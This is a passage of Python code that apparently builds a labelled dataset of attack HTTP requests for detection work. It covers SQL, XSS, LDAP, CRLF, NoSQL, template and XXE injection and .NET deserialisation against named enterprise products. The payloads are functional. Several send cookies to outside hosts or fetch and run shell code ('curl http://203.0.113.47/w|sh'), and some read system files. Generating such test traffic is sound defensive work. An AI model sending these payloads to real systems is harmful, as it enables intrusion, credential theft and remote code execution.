    # Telerik RadAsyncUpload CVE-2019-18935: mixed-mode DLL uploaded through the RAU handler
    bd = webkit_boundary(r)
    dll = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00" + \
        b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + rbytes(r, 700)
    mp = multipart([("rauPostData", b64(rbytes(r, 512)) + "&" + b64(rbytes(r, 96)), None, None),
                    ("file", dll, "blob", "application/octet-stream"), ("fileName", "1564158823.6129.dll", None, None),
                    ("contentType", "application/octet-stream", None, None), ("lastModifiedDate", "2019-01-01T00:00:00.000Z", None, None),
                    ("metadata", '{"TotalChunks":1,"ChunkIndex":0,"TotalFileSize":1,"UploadID":"1564158823.6129.dll"}', None, None)], bd)
    add_raw(cat, "telerik_rau", "POST", "/Telerik.Web.UI.WebResource.axd?type=rau",
            attacker(r, "www.example.org", ua="python-requests/2.22.0", ctype="multipart/form-data; boundary=" + bd), mp)
    # Telerik CVE-2017-9248 DialogHandler key brute force (forged dp)
    add(cat, "telerik_rau", "GET", "/Telerik.Web.UI.DialogHandler.aspx?DialogName=DocumentManager&renderMode=2&Skin=Default&Title=Document%20Manager&dpptn=&isRtl=false&dp=" + quote(b64(rbytes(r, 420)), safe=""),
        attacker(r, "www.example.org", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))
    # .NET Remoting endpoint fed a raw BinaryFormatter stream
    add_raw(cat, "remoting_deser", "POST", "/RemoteServices/PayrollManager.rem",
            [["Host", "payroll.corp.local:8080"], ["User-Agent", "Mozilla/4.0+(compatible; MSIE 6.0; Windows 6.2.9200.0; MS .NET Remoting; MS .NET CLR 4.0.30319.42000 )"],
             ["Content-Type", "application/octet-stream"], ["__RequestVerb", "POST"]],
            dotnet_gadget("TypeConfuseDelegate", WIN_CMDS[3]))
    # SoapFormatter to a remoting .soap endpoint
    add(cat, "remoting_deser", "POST", "/RemoteServices/PayrollManager.soap",
        [["Host", "payroll.corp.local:8080"], ["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://schemas.microsoft.com/clr/nsassem/Payroll/Payroll#Get"']],
        '<SOAP-ENV:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/" '
        'xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:clr="http://schemas.microsoft.com/soap/encoding/clr/1.0" '
        'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><SOAP-ENV:Body><a1:WindowsIdentity id="ref-1" '
        'xmlns:a1="http://schemas.microsoft.com/clr/nsassem/System.Security.Principal/mscorlib%2C%20Version%3D4.0.0.0%2C%20Culture%3Dneutral%2C%20PublicKeyToken%3Db77a5c561934e089">'
        '<System.Security.ClaimsIdentity.actor id="ref-2" xmlns="" xsi:type="xsd:string" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
        + b64(dotnet_gadget("TypeConfuseDelegate", "calc")) + '</System.Security.ClaimsIdentity.actor></a1:WindowsIdentity></SOAP-ENV:Body></SOAP-ENV:Envelope>')
    # XAML ResourceDictionary smuggled into an ASMX string parameter that the service parses with XamlReader
    xaml = ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
            'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
            '<ObjectDataProvider x:Key="x" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
            '<System:String>cmd</System:String><System:String>/c net group "Domain Admins" /domain</System:String>'
            '</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>')
    add(cat, "xaml_inject", "POST", "/Services/LayoutService.asmx",
        [["Host", "apps.northwind.local"], ["User-Agent", DOTNET_SOAP_UA], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://tempuri.org/SaveLayout"']],
        SOAP11 % ('<SaveLayout xmlns="http://tempuri.org/"><layoutXaml>%s</layoutXaml></SaveLayout>' % xesc(xaml)))


# ---------------------------------------------------------------------------
# ATTACKS: sqli
# ---------------------------------------------------------------------------

def gen_attack_sqli():
    r = rng_for("attack_sqli")
    cat = "sqli"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    # classic ASP / IIS: stacked queries, xp_cmdshell, %-stripping, %u, HPP
    asp_get = [
        "/products.asp?id=12;EXEC%20master..xp_cmdshell%20'ping%20-n%201%20198.51.100.23'--",
        "/news/article.asp?id=1423%3BEXEC%20master.dbo.xp_cmdshell%20%27powershell%20-enc%20JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA%3D%27--",
        "/catalog/product.asp?sku=AB-1290'%20and%201=convert(int,(select%20top%201%20name%20from%20sysobjects%20where%20xtype='U'))--",
        "/news.asp?id=1%20u%n%i%o%n%20s%e%l%e%c%t%201,@@version,3,4--",
        "/default.asp?page=1%20%a%n%d%201=(s%e%l%e%c%t%20t%o%p%201%20u%s%e%r%n%a%m%e%20f%r%o%m%20t%b%l%U%s%e%r%s)",
        "/search.asp?q=abc%u0027%20or%201=1--",
        "/forum/topic.asp?TOPIC_ID=12%u0027%u0020union%u0020select%u0020null,password,null%u0020from%u0020members--",
        "/phonebook/default.asp?letter=A&id=1/*&id=*/union/*&id=*/select/*&id=*/1,2,name/*&id=*/from/*&id=*/master..sysdatabases--",
        "/products.asp?cat=3;DECLARE%20@S%20VARCHAR(4000);SET%20@S=CAST(0x4445434C415245204054205641524348415228323535292C4043205641524348415228323535293B%20AS%20VARCHAR(4000));EXEC(@S);--",
        "/login.asp?user=admin'%20WAITFOR%20DELAY%20'0:0:7'--",
        "/kb/download.asp?doc=1'%20and%20ascii(substring((select%20top%201%20name%20from%20master..sysdatabases),1,1))>64--&v=1",
        "/admin/report.asp?from=01/01/2019&dept=1%20having%201=1--",
        "/catalog/product.asp?sku=1;exec('sp_configure%20''show%20advanced%20options'',1;reconfigure;exec%20sp_configure%20''xp_cmdshell'',1;reconfigure')--",
    ]
    for u in asp_get:
        add(cat, "classic_asp", "GET", u, H(cookie=asp_session(r)))
    # Request("x") in classic ASP also reads cookies
    add(cat, "classic_asp", "GET", "/members/profile.asp", H(cookie=asp_session(r) + "; UserID=1%27%20or%20%271%27%3D%271"))
    add(cat, "classic_asp", "POST", "/login.asp", H(ctype="application/x-www-form-urlencoded", cookie=asp_session(r)),
        "txtUser=" + qp("admin'--") + "&txtPass=x&Submit=Log+In")
    # WebForms fields and GridView sort expressions
    host = "hr.contoso.local"
    for name, val in [("ctl00$MainContent$txtSearch", "x' UNION ALL SELECT NULL,name,password_hash,NULL FROM aspnet_Membership--"),
                      ("ctl00$ContentPlaceHolder1$txtUserName", "' OR 1=1;--"),
                      ("ctl00$MainContent$txtFromDate", "2019-01-01' AND 1=(SELECT COUNT(*) FROM sys.sql_logins WHERE IS_SRVROLEMEMBER('sysadmin')=1)--")]:
        body = form([("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", viewstate(r, 2048)), ("__VIEWSTATEGENERATOR", vsgen(r)),
                     ("__EVENTVALIDATION", eventvalidation(r, 12)), (name, val), ("ctl00$MainContent$btnSearch", "Search")])
        add(cat, "webforms_field", "POST", "/HR/EmployeeList.aspx", attacker(r, host, ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), body)
    body = form([("__EVENTTARGET", "ctl00$MainContent$GridView1"), ("__EVENTARGUMENT", "Sort$LastName;WAITFOR DELAY '0:0:5'--"),
                 ("__VIEWSTATE", viewstate(r, 3072)), ("__VIEWSTATEGENERATOR", vsgen(r))])
    add(cat, "webforms_field", "POST", "/HR/EmployeeList.aspx", attacker(r, host, ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), body)
    body = form([("__EVENTTARGET", "ctl00$MainContent$gvOrders"), ("__EVENTARGUMENT", "Sort$(CASE WHEN (SELECT SUBSTRING(SYSTEM_USER,1,1))='s' THEN OrderDate ELSE Total END)"),
                 ("__VIEWSTATE", viewstate(r, 2048)), ("__VIEWSTATEGENERATOR", vsgen(r))])
    add(cat, "webforms_field", "POST", "/Purchasing/OrderSearch.aspx", attacker(r, host, ctype="application/x-www-form-urlencoded"), body)
    # ASMX JSON / SOAP
    add(cat, "asmx", "POST", "/Services/AutoComplete.asmx/GetCompletionList", H(ctype="application/json; charset=utf-8"),
        json.dumps({"prefixText": "a' UNION SELECT UserName + ':' + Password FROM aspnet_Membership m JOIN aspnet_Users u ON u.UserId=m.UserId--", "count": 10}))
    add(cat, "asmx", "POST", "/Services/EmployeeService.asmx",
        [["Host", "hr.contoso.local"], ["User-Agent", "python-requests/2.31.0"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://tempuri.org/GetEmployee"']],
        SOAP11 % '<GetEmployee xmlns="http://tempuri.org/"><employeeId>1 OR 1=1; SELECT name FROM master.sys.databases</employeeId></GetEmployee>')
    # OData $filter / $orderby reaching SQL
    add(cat, "odata", "GET", "/sites/hr/_api/web/lists/getbytitle('Tasks')/items?$filter=" + quote("Title eq 'x'; DROP TABLE dbo.AllUserData;--'", safe="'") + "&$top=10",
        H(accept="application/json;odata=verbose"))
    add(cat, "odata", "GET", "/api/data/v8.2/accounts?$select=name&$orderby=" + quote("name,(SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)", safe=",()"),
        H(accept="application/json"))
    add(cat, "odata", "GET", "/Services/Orders.svc/Orders?$filter=" + quote("ShipCity eq 'Cork' or 1 eq 1) union select UserName,Password,null from Users--", safe="'"),
        H(accept="application/atom+xml"))
    # ColdFusion
    add(cat, "coldfusion", "GET", "/index.cfm?fuseaction=news.detail&newsID=1%20UNION%20ALL%20SELECT%20NULL,username,password,NULL,NULL%20FROM%20tblAdmin--", H())
    add(cat, "coldfusion", "GET", "/api/Orders.cfc?method=getOrders&returnformat=json&status=" + quote("open' AND 1=CONVERT(int,@@version)--", safe=""), H())
    # Oracle: APEX items, PL/SQL gateway, EBS
    add(cat, "oracle", "GET", "/ords/f?p=100:5:0::NO::P5_ID:" + quote("1' || (SELECT UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual)) FROM dual) || '", safe="'|()") , H())
    add(cat, "oracle", "GET", "/pls/portal/owa_util.cellsprint?p_theQuery=select%20username,password%20from%20sys.dba_users", H())
    add(cat, "oracle", "GET", "/pls/orasso/%0ASYS.OWA_UTIL.CELLSPRINT?P_THEQUERY=SELECT+*+FROM+SYS.USER$", H())
    add(cat, "oracle", "POST", "/pls/apex/wwv_flow.accept", H(ctype="application/x-www-form-urlencoded"),
        form([("p_flow_id", "100"), ("p_flow_step_id", "2"), ("p_instance", "0"), ("p_request", "SAVE"),
              ("p_t01", "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',10)--")]))
    add(cat, "oracle", "GET", "/OA_HTML/OA.jsp?page=/oracle/apps/fnd/framework/navigate/webui/HomePG&transactionid=1&personId=" + quote("1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))", safe="(),=$"), H())
    # Struts / JSP / PeopleSoft / reports / Domino
    add(cat, "java_form", "POST", "/hr/employee/save.action", H(ctype="application/x-www-form-urlencoded"),
        form([("employee.lastName", "Smith' AND SLEEP(5)#"), ("employee.address.city", "Cork")]))
    add(cat, "java_form", "GET", "/app/viewReport.jsp;jsessionid=%s?id=1&dept=10%%20UNION%%20SELECT%%20username,password%%20FROM%%20dba_users--" % jsessionid(r), H())
    add(cat, "java_form", "POST", "/psc/ps/EMPLOYEE/HRMS/c/ROLE_MANAGER.TL_MSS_EE_SRCH_PRD.GBL", H(ctype="application/x-www-form-urlencoded"),
        form([("ICAJAX", "1"), ("ICType", "Panel"), ("ICAction", "#ICSearch"), ("ICStateNum", "4"),
              ("TL_MSS_EE_SRCH_LAST_NAME", "O' UNION SELECT OPRID, OPERPSWD FROM PSOPRDEFN--")]))
    add(cat, "reports", "GET", "/ReportServer?%2fFinance%2fAP+Aging&rs:Command=Render&DeptId=1%3Bexec%20xp_cmdshell%20%27whoami%27--", H())
    add(cat, "reports", "GET", "/CrystalReports/viewrpt.aspx?rpt=Invoices.rpt&prompt0=1)%20or%20(1=1&prompt1=x", H())
    # blind / encoded variants
    add(cat, "encoded", "GET", "/Default.aspx?id=1%2527%2520or%25201%253D1--", H())
    add(cat, "encoded", "GET", "/catalog/product.asp?sku=1%27%20%2F*!50000union*%2F%20%2F*!50000select*%2F%201,2--", H())
    add(cat, "encoded", "POST", "/intranet/ajax/saveComment.asp", H(ctype="application/x-www-form-urlencoded"),
        "action=save&id=1%u0027%u003B%u0020shutdown%u0020with%u0020nowait--&comment=x")


# ---------------------------------------------------------------------------
# ATTACKS: xss
# ---------------------------------------------------------------------------

def gen_attack_xss():
    r = rng_for("attack_xss")
    cat = "xss"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    # WebForms fields (request validation bypass shapes), IE-era vectors
    wf_vals = [
        ("ctl00$MainContent$txtComment", "<%div style=\"xss:expression(alert(document.cookie))\">"),
        ("ctl00$MainContent$txtName", "\uff1cscript\uff1ealert(document.domain)\uff1c/script\uff1e"),
        ("ctl00$ContentPlaceHolder1$txtTitle", "<img src=x onerror=\"this.src='//198.51.100.23/c?'+document.cookie\">"),
        ("ctl00$MainContent$txtNotes", "<a href=\"vbscript:msgbox(document.cookie)\">click</a>"),
        ("ctl00$MainContent$txtAddress", "<div style=\"behavior:url(//203.0.113.47/x.htc)\">"),
        ("ctl00$MainContent$txtSearch", "\"><xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>"),
        ("ctl00$MainContent$txtBio", "<!--[if gte IE 4]><script>alert(document.cookie)</script><![endif]-->"),
        ("ctl00$MainContent$txtTitle", "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<script defer>alert(1)</script>\">"),
    ]
    for name, val in wf_vals:
        body = form([("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", viewstate(r, 1536)), ("__VIEWSTATEGENERATOR", vsgen(r)),
                     (name, val), ("ctl00$MainContent$btnSave", "Save")])
        add(cat, "webforms_field", "POST", r.choice(["/Helpdesk/Tickets.aspx", "/HR/Profile.aspx", "/News/Edit.aspx"]),
            H(ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), body)
    # %u encodings of < and >
    add(cat, "unicode", "GET", "/search.aspx?q=%u003Cscript%u003Ealert(document.cookie)%u003C/script%u003E", H())
    add(cat, "unicode", "GET", "/search.asp?q=%u003cimg%20src%3dx%20onerror%3dalert%281%29%u003e&x=0&y=0", H())
    add(cat, "unicode", "GET", "/Default.aspx?lang=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", H())
    # UTF-7 for old IE with no charset
    add(cat, "unicode", "GET", "/kb/view.asp?title=%2BADw-script%2BAD4-alert(document.cookie)%2BADw-%2Fscript%2BAD4-&cs=utf-7", H())
    # SharePoint list items
    add(cat, "sharepoint", "POST", "/sites/hr/_api/web/lists/getbytitle('Announcements')/items",
        H(ctype="application/json;odata=verbose", extra=[["X-RequestDigest", sp_digest(r)]], cookie=fedauth(r)),
        json.dumps({"__metadata": {"type": "SP.Data.AnnouncementsListItem"}, "Title": "Canteen menu",
                    "Body": "<div><img src=x onerror=\"fetch('https://x7k2p.oastify.com/?'+document.cookie)\"></div>"}))
    add(cat, "sharepoint", "POST", "/_vti_bin/Lists.asmx",
        [["Host", "sp2013.corp.local"], ["User-Agent", DOTNET_SOAP_UA], ["Content-Type", "text/xml; charset=utf-8"],
         ["SOAPAction", '"http://schemas.microsoft.com/sharepoint/soap/UpdateListItems"']],
        SOAP11 % ('<UpdateListItems xmlns="http://schemas.microsoft.com/sharepoint/soap/"><listName>Tasks</listName><updates><Batch OnError="Continue">'
                  '<Method ID="1" Cmd="New"><Field Name="Title"><![CDATA[<svg/onload=alert(document.domain)>]]></Field></Method></Batch></updates></UpdateListItems>'))
    add(cat, "sharepoint", "GET", "/_layouts/15/listform.aspx?PageType=4&ListId=%7B6A8B7F1E-2C3D-4E5F-8091-A2B3C4D5E6F7%7D&ID=3&Source=javascript%3Aalert%28document.cookie%29", H())
    # JSF / Domino / ColdFusion / Perl / Struts / SAP / PeopleSoft / Citrix
    add(cat, "jsf", "POST", "/hrportal/pages/list.xhtml", H(ctype="application/x-www-form-urlencoded", extra=[["Faces-Request", "partial/ajax"]]),
        form([("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:search"), ("form", "form"),
              ("form:search", "\"><svg onload=alert(1)>"), ("javax.faces.ViewState", "-123:456")]))
    add(cat, "domino", "GET", "/names.nsf?Login&RedirectTo=javascript:alert(document.cookie)", H())
    add(cat, "domino", "GET", "/apps/kb.nsf/ByCategory?OpenForm&BaseTarget=%22;alert(document.cookie);//", H())
    add(cat, "coldfusion", "GET", "/CFIDE/componentutils/cfcexplorer.cfc?method=getcfcinhtml&name=%3Cscript%3Ealert(1)%3C/script%3E", H())
    add(cat, "coldfusion", "GET", "/CFIDE/debug/cf_debugFr.cfm?userPage=javascript:alert(document.domain)", H())
    add(cat, "perl_cgi", "POST", "/cgi-bin/guestbook.pl", H(ctype="application/x-www-form-urlencoded"),
        form([("name", "Visitor"), ("comment", "<iframe src=\"javascript:alert(String.fromCharCode(88,83,83))\"></iframe>")]))
    add(cat, "struts", "GET", "/login.action?errorMessage=%3Cbody%20onload%3Dalert%28%27xss%27%29%3E", H())
    add(cat, "sap", "GET", "/sap/bc/gui/sap/its/webgui?sap-client=100&sap-language=EN%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E", H())
    add(cat, "sap", "GET", "/irj/portal?NavigationTarget=navurl%3A%2F%2F%27%3E%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E", H())
    add(cat, "peoplesoft", "GET", "/psp/ps/EMPLOYEE/HRMS/?cmd=login&errorPg=ckreq&languageCd=ENG%22%3E%3Cscript%3Ealert(1)%3C/script%3E", H())
    add(cat, "citrix", "GET", "/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a%3Cscript%3Ealert(document.cookie)%3C/script%3E", H())
    add(cat, "classic_asp", "GET", "/search.asp?q=%22%3E%3Cscript%3Edocument.location%3D%27http%3A%2F%2F45.77.12.9%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E", H())
    add(cat, "classic_asp", "GET", "/news/article.asp?id=12&cat=%3Cobject%20data%3D%22javascript%3Aalert(1)%22%3E", H())
    # double-encoded and entity-encoded
    add(cat, "encoded", "GET", "/HR/EmployeeList.aspx?msg=%253Cscript%253Ealert%2528document.cookie%2529%253C%252Fscript%253E", H())
    add(cat, "encoded", "POST", "/Orders/Edit.aspx/SaveOrderLines", H(ctype="application/json; charset=utf-8"),
        '{"orderId":1,"note":"\\u003cimg src=x onerror=alert(document.cookie)\\u003e"}')


# ---------------------------------------------------------------------------
# ATTACKS: ldap, crlf, nosqli, ssti
# ---------------------------------------------------------------------------

def gen_attack_ldap():
    r = rng_for("attack_ldap")
    cat = "ldap"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    add(cat, "directory", "GET", "/Directory/Search.aspx?q=*)(%7C(objectClass%3D*)", H())
    add(cat, "directory", "GET", "/phonebook/search.asp?name=*)(userPassword%3D*))(%7C(cn%3D*", H())
    add(cat, "directory", "GET", "/Directory/Search.aspx?q=" + quote("admin*)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)", safe=""), H())
    add(cat, "directory", "GET", "/apps/people.cfm?dept=%2A%29%28objectClass%3Duser%29%28%21%28userAccountControl%3A1.2.840.113556.1.4.803%3A%3D2%29", H())
    body = form([("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", viewstate(r, 1024)), ("__VIEWSTATEGENERATOR", vsgen(r)),
                 ("ctl00$MainContent$txtLastName", "*)(uid=*))(|(uid=*"), ("ctl00$MainContent$btnFind", "Find")])
    add(cat, "directory", "POST", "/Directory/Search.aspx", H(ctype="application/x-www-form-urlencoded"), body)
    add(cat, "login", "POST", "/login.jsp", H(ctype="application/x-www-form-urlencoded"),
        form([("j_username", "admin)(&)"), ("j_password", "anything")]))
    add(cat, "login", "POST", "/names.nsf?Login", H(ctype="application/x-www-form-urlencoded"),
        form([("Username", "*)(|(objectclass=*"), ("Password", "x"), ("RedirectTo", "/")]))
    add(cat, "login", "POST", "/Citrix/StoreWeb/ExplicitAuth/LoginAttempt", H(ctype="application/x-www-form-urlencoded"),
        "username=" + quote("jsmith)(|(sAMAccountName=*", safe="") + "&password=x&loginBtn=Log+On")
    add(cat, "directory", "GET", "/HR/OrgChart.aspx?manager=" + quote("x)(|(description=*pass*)(info=*pwd*)", safe=""), H())
    add(cat, "directory", "POST", "/Services/Directory.asmx",
        [["Host", "intranet.corp.local"], ["User-Agent", "python-requests/2.28.1"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://tempuri.org/FindUser"']],
        SOAP11 % '<FindUser xmlns="http://tempuri.org/"><login>*)(&amp;(objectCategory=computer)(operatingSystem=*server*)</login></FindUser>')
    add(cat, "directory", "GET", "/Directory/Search.aspx?q=%5c2a%29%28mail%3d%5c2a%40%5c2a", H())


def gen_attack_crlf():
    r = rng_for("attack_crlf")
    cat = "crlf"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    add(cat, "redirect", "GET", "/redirect.asp?url=%0d%0aSet-Cookie:%20ASPSESSIONIDQQGGGNCD=FIXATEDSESSIONVALUE01;%20path=/", H())
    add(cat, "redirect", "GET", "/Account/Login.aspx?ReturnUrl=%2fDefault.aspx%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", H())
    add(cat, "redirect", "GET", "/names.nsf?Login&RedirectTo=/%0D%0ALocation:%20http://45.77.12.9/", H())
    add(cat, "redirect", "GET", "/portal/logout.jsp?next=%E5%98%8A%E5%98%8DSet-Cookie:%20JSESSIONID=attacker", H())
    add(cat, "redirect", "GET", "/Default.aspx?lang=en%u000d%u000aX-Injected:%20true", H())
    add(cat, "redirect", "GET", "/sites/hr/_layouts/15/SignOut.aspx?Source=%0aRefresh:%200;url=http://198.51.100.23/", H())
    add(cat, "mail_header", "POST", "/contact/sendmail.asp", H(ctype="application/x-www-form-urlencoded"),
        "name=Jo&email=" + quote("victim@corp.local\r\nBcc: list1@example.net,list2@example.net\r\nSubject: Invoice", safe="@") + "&msg=hi")
    add(cat, "mail_header", "POST", "/cgi-bin/formmail.pl", H(ctype="application/x-www-form-urlencoded"),
        "recipient=hr%40corp.local&subject=Leave%0d%0aCc:%20spam%40example.net%0d%0a&email=a%40b.c&comments=x")
    add(cat, "header", "GET", "/download.aspx?file=report.pdf%0d%0aContent-Disposition:%20attachment;%20filename=update.exe", H())
    add(cat, "header", "GET", "/cgi-bin/report.pl?action=view%0d%0a%0d%0a%3Chtml%3E%3Cbody%3Einjected%3C/body%3E%3C/html%3E&id=1", H())


def gen_attack_nosqli():
    r = rng_for("attack_nosqli")
    cat = "nosqli"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    add(cat, "json", "POST", "/hrapi/login", H(ctype="application/json"), '{"username":{"$ne":null},"password":{"$ne":null}}')
    add(cat, "query", "GET", "/hrapi/employees?lastName[$regex]=^a.*&password[$exists]=true", H())
    add(cat, "query", "POST", "/intranet/api/session", H(ctype="application/x-www-form-urlencoded"), "user=admin&pass%5B%24gt%5D=")
    add(cat, "json", "POST", "/hrapi/employees/search", H(ctype="application/json"),
        '{"$where":"function(){ var d=new Date(); do{ cur=new Date(); } while(cur-d<5000); return true; }"}')
    add(cat, "json", "POST", "/ords/hr/employees/", H(ctype="application/json"),
        '{"q":{"salary":{"$gt":0},"$or":[{"$where":"this.password.match(/^a/)"}]}}')


def gen_attack_ssti():
    r = rng_for("attack_ssti")
    cat = "ssti"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    add(cat, "jsf_el", "POST", "/hrportal/pages/search.xhtml", H(ctype="application/x-www-form-urlencoded"),
        form([("form", "form"), ("form:q", "#{facesContext.externalContext.request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
              ("javax.faces.ViewState", "-4123:8812")]))
    add(cat, "jsf_el", "GET", "/claims/error.jsf?msg=%24%7BapplicationScope%7D", H())
    add(cat, "jsf_el", "GET", "/portal/page.jsp?message=" + quote("${pageContext.request.getSession().setAttribute(\"a\",\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\"))}", safe=""), H())
    add(cat, "spring_webflow", "POST", "/travel/booking?execution=e1s2", H(ctype="application/x-www-form-urlencoded"),
        "_eventId_confirm=&_csrf=" + guid(r) + "&_(new+java.lang.ProcessBuilder(%22bash%22,%22-c%22,%22curl+http://203.0.113.47/w|sh%22)).start()=x")
    add(cat, "cfml_eval", "GET", "/index.cfm?fuseaction=report.view&sort=" + quote("#createObject(\"java\",\"java.lang.Runtime\").getRuntime().exec(\"cmd.exe /c whoami\")#", safe=""), H())
    add(cat, "velocity", "POST", "/secure/ContactAdministrators.jspa", H(ctype="application/x-www-form-urlencoded"),
        form([("from", "a@b.c"), ("subject", "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('curl http://198.51.100.23/j').waitFor()"),
              ("details", "x"), ("atl_token", rhex(r, 40)), ("Send", "Send")]))
    add(cat, "velocity", "POST", "/cms/preview", H(ctype="application/x-www-form-urlencoded"),
        "template=" + qp("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"))
    add(cat, "freemarker", "POST", "/opencms/system/workplace/editors/editor.jsp", H(ctype="application/x-www-form-urlencoded"),
        "content=" + qp("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}") + "&action=save")
    add(cat, "citrix_tt", "POST", "/vpn/../vpns/portal/scripts/newbm.pl",
        attacker(r, "remote.example-corp.com", ctype="application/x-www-form-urlencoded",
                 extra=[["NSC_USER", "../../../netscaler/portal/templates/PWNED"], ["NSC_NONCE", "nsroot"]]),
        "url=http://example.com&title=" + qp("[% template.new({'BLOCK'='print `cat /nsconfig/ns.conf`'}) %]") + "&desc=desc&UI_inuse=RfWeb")
    add("rce", "ssi", "POST", "/guestbook/sign.shtml", H(ctype="application/x-www-form-urlencoded"),
        "name=x&message=" + qp("<!--#exec cmd=\"cmd.exe /c dir c:\\inetpub\" -->"))


# ---------------------------------------------------------------------------
# ATTACKS: xxe, ssrf
# ---------------------------------------------------------------------------

def gen_attack_xxe():
    r = rng_for("attack_xxe")
    cat = "xxe"
    add(cat, "peoplesoft", "POST", "/PSIGW/HttpListeningConnector",
        attacker(r, "hcm.corp.local:8443", ctype="text/xml"),
        '<?xml version="1.0"?>\n<!DOCTYPE IBRequest [<!ENTITY x SYSTEM "http://x7k2p.oastify.com/ps">]>\n'
        '<IBRequest><ExternalOperationName>&x;</ExternalOperationName><OperationType/><From><RequestingNode/><Password/>'
        '<OrigUser/><OrigNode/><OrigProcess/><OrigTimeStamp/></From><To><FinalDestination/><DestinationNode/><SubChannel/></To>'
        '<ContentSections><ContentSection><NonRepudiation/><MessageVersion/><Data><![CDATA[x]]></Data></ContentSection></ContentSections></IBRequest>')
    add(cat, "peoplesoft", "POST", "/PSIGW/PeopleSoftServiceListeningConnector",
        attacker(r, "hcm.corp.local:8443", ctype="text/xml"),
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % dtd SYSTEM "http://203.0.113.47/ps.dtd"> %dtd; %send;]>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><a/></soapenv:Body></soapenv:Envelope>')
    add(cat, "asmx", "POST", "/Services/EmployeeService.asmx",
        [["Host", "hr.contoso.local"], ["User-Agent", "python-requests/2.28.1"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://tempuri.org/SearchEmployees"']],
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n'
        + (SOAP11 % '<SearchEmployees xmlns="http://tempuri.org/"><lastName>&win;</lastName></SearchEmployees>').split("\n", 1)[1])
    add(cat, "sharepoint", "POST", "/_vti_bin/Lists.asmx",
        [["Host", "sp2013.corp.local"], ["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://schemas.microsoft.com/sharepoint/soap/GetListItems"']],
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "\\\\198.51.100.23\\share\\x.dtd"> %ext;]>'
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetListItems xmlns="http://schemas.microsoft.com/sharepoint/soap/"><listName>Tasks</listName></GetListItems></soap:Body></soap:Envelope>')
    add(cat, "crm", "POST", "/XRMServices/2011/Organization.svc/web",
